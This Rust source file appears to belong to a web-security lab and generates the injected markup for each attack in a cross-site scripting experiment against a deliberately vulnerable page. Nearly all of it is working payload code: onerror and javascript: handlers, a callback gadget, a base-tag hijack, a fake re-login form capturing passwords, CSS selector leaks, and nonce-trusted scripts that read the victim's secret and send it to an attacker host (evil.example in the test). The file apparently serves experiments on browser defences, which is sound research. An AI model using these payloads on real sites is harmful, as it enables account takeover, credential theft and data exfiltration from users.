//! What is injected into the vulnerable page, for each attack of the script experiment.

use lab_types::{Injection, Strategy};

use crate::targets::VictimEndpoints;

/// The injected content.
#[derive(Debug, Default, PartialEq, Eq)]
pub struct InjectedContent {
    /// The server writes this into the page. `{nonce}` is a placeholder where the page itself trusts the content.
    pub markup: String,
    /// The page's own script uses this, as if from an address.
    pub text: String,
    /// Whether a script with a relative address follows in the page.
    pub relative: bool,
}

impl InjectedContent {
    /// `address` is the query of the run and its cell. `hit` is the endpoint of the attacker's host that receives loot.
    pub fn new(injection: Injection, address: &str, attacker: &str, hit: &str) -> Self {
        let endpoints = VictimEndpoints::of(Strategy::SessionCookie);
        // Single quotes only, so that it can be placed in attributes.
        let act = format!(
            "fetch(location.origin+'{}?{address}',{{method:'POST'}})",
            endpoints.transfer
        );
        let send = |how: &str| {
            format!(
                "fetch(location.origin+'{}?{address}').then(a=>a.text()).then(secret=>{how})",
                endpoints.me
            )
        };
        let markup = |markup: String| Self {
            markup,
            ..Self::default()
        };
        let text = |text: String| Self {
            text,
            ..Self::default()
        };
        let trusted = |code: String| markup(format!("<script nonce=\"{{nonce}}\">{code}</script>"));
        let echo: String = url::form_urlencoded::byte_serialize(format!("{act};void").as_bytes()).collect();
        let gadget = format!("/gadget.js?callback={echo}");
        match injection {
            Injection::InlineHandler => {
                markup(format!("<img alt=\"\" src=\"/assets/none\" onerror=\"{act}\">"))
            }
            Injection::InlineScript => markup(format!("<script>{act}</script>")),
            Injection::ForeignScript => markup(format!(
                "<script src=\"{attacker}/hosted/widget.js?{address}\"></script>"
            )),
            Injection::Gadget => markup(format!("<script src=\"{gadget}\"></script>")),
            Injection::ScriptLink => markup(format!("<a href=\"javascript:void({act})\">My page</a>")),
            Injection::Base => Self {
                // What follows it is part of the page, and would be there without it.
                markup: format!("<base href=\"{attacker}/hosted/\">"),
                relative: true,
                ..Self::default()
            },
            Injection::HtmlSink => text(format!("<img alt=\"\" src=\"/assets/none\" onerror=\"{act}\">")),
            Injection::UrlSink => text(gadget),
            Injection::Eval => text(act),
            Injection::Form => markup(format!(
                "<form method=\"post\" action=\"{hit}\"><input name=\"password\" value=\"what the visitor types\">\
                 <button>Sign in again</button></form>"
            )),
            Injection::Style => markup(format!(
                "<style>[name=email][value^=ada]{{background:url('{hit}&what=ada')}}</style>"
            )),
            Injection::FetchHome => trusted(send(&format!(
                "fetch('{hit}',{{method:'POST',mode:'no-cors',body:secret}})"
            ))),
            Injection::ImageHome => trusted(send(&format!(
                "new Image().src='{hit}&what='+encodeURIComponent(secret)"
            ))),
            Injection::LeaveHome => trusted(send(&format!(
                "location='{hit}&what='+encodeURIComponent(secret)"
            ))),
            Injection::Act => trusted(act),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_trusted_content_has_the_nonce() {
        for injection in Injection::ALL {
            let content = InjectedContent::new(
                *injection,
                "run=1&cell=2",
                "https://evil.example",
                "https://evil.example/hit",
            );
            assert_ne!(content, InjectedContent::default(), "{}", injection.slug());
            let is_trusted = matches!(
                injection,
                Injection::FetchHome | Injection::ImageHome | Injection::LeaveHome | Injection::Act
            );
            assert_eq!(
                content.markup.contains("{nonce}"),
                is_trusted,
                "{}",
                injection.slug()
            );
        }
    }
}
